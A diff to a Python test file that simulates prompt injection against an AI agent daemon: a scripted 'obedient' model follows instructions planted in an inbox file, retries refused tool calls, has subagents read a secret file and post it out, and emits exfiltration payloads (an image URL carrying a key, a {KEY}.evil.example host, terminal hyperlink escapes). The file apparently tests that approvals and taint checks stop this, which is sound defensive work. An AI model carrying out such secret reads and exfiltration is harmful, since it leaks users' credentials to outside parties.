@@ -21,7 +21,7 @@ from daemon.config import load_config
 from daemon.models import ApprovalStatus, Run, Status, StepKind, Taint, new_id
 from daemon.places import socket_in
 from daemon.redact import Secrets
-from tests.attacks import ATTACKS
+from tests.attacks import ATTACKS, POST
 from tests.delivery.receivers import Receiver
 
 SHIPPED = Path(__file__).parents[1] / "policy.toml"
@@ -110,6 +110,13 @@ class World:
         return found | {"approvals": str((self.state / "approvals.toml").exists())}
 
 
+STEAL = ("file_read", {"path": "{secret}"})
+
+
+def _call(call: tuple[str, Any], world: World) -> dict[str, Any]:
+    return {"name": call[0], "arguments": world.fill(call[1])}
+
+
 async def obey(app: App, world: World, text: str, calls: Any, *, reads: bool = True) -> tuple[Run, list[str]]:
     """Live a run whose model does what a text says, whatever it is told meanwhile; a person refuses what is asked."""
     (world.workspace / "inbox.txt").write_text(world.fill(text))
@@ -119,12 +126,13 @@ async def obey(app: App, world: World, text: str, calls: Any, *, reads: bool = T
         f"<img src={world.stranger}/i?d={KEY}> {KEY}.evil.example \x1b]8;;{world.stranger}\x07here\x1b]8;;\x07"
     )
     model: Any = app.providers.get("obedient")
-    model.enqueue(
-        *([{"tool_calls": [{"name": "file_read", "arguments": {"path": "inbox.txt"}}]}] if reads else []),
-        {"tool_calls": orders},
-        *({"tool_calls": [each]} for each in orders[-2:]),  # once more, as it was refused
-        loot,
-    )
+    reading = [[{"name": "file_read", "arguments": {"path": "inbox.txt"}}]] if reads else []
+    again = [[each] for each in orders[-2:]]  # once more, as it was refused
+    for turn in (*reading, orders, *again):
+        model.enqueue({"tool_calls": turn})
+        for _ in (each for each in turn if each["name"] == "subagent"):  # which is no better than its parent
+            model.enqueue({"tool_calls": [_call(POST, world), _call(STEAL, world)]}, "Helped.")
+    model.enqueue(loot)
     run = await app.engine.trigger("reader", event=new_id())
     while not (run := await app.journal.get(run.id)).status.ended:
         if run.status is Status.WAITING:
